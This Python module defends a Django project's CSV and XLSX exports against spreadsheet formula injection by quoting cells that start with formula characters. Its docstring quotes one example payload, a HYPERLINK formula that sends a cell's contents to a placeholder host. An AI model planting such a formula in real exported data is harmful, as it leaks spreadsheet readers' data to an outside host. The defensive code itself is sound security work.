"""Exports that a spreadsheet cannot turn against its reader (formula injection, issue #10 finding 3).

A cell whose text starts with `=`, `+`, `-`, `@`, a tab or a carriage return is read by Excel/LibreOffice as a
formula (`=HYPERLINK("http://x/?d="&A1,"Bấm vào")` sends the sheet away). `safe_cell` prefixes such text with `'`,
so it shows as typed and never runs; plain numbers written as text ("-5", "+84 233") are left alone. Every CSV and
XLSX the project writes goes through it: the list screens (`SafeTableExport`, core/views/generic.py), the
directives export command, the report appendix workbook.
"""
from __future__ import annotations

import re

from django_tables2.export import TableExport

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"^[+-]?\d[\d .,]*$")


def safe_cell(value):
    """The value, or its text prefixed with `'` when a spreadsheet would read it as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _NUMBER.match(value):
        return "'" + value
    return value


def safe_row(values) -> list:
    return [safe_cell(value) for value in values]


class SafeTableExport(TableExport):
    """django-tables2's CSV/XLSX export with every header and cell neutralised."""

    def table_to_dataset(self, table, exclude_columns, dataset_kwargs=None):
        dataset = super().table_to_dataset(table, exclude_columns, dataset_kwargs)
        if dataset.headers:
            dataset.headers = safe_row(dataset.headers)
        rows = [safe_row(row) for row in dataset]
        headers = dataset.headers
        dataset.wipe()
        dataset.headers = headers
        for row in rows:
            dataset.append(row)
        return dataset
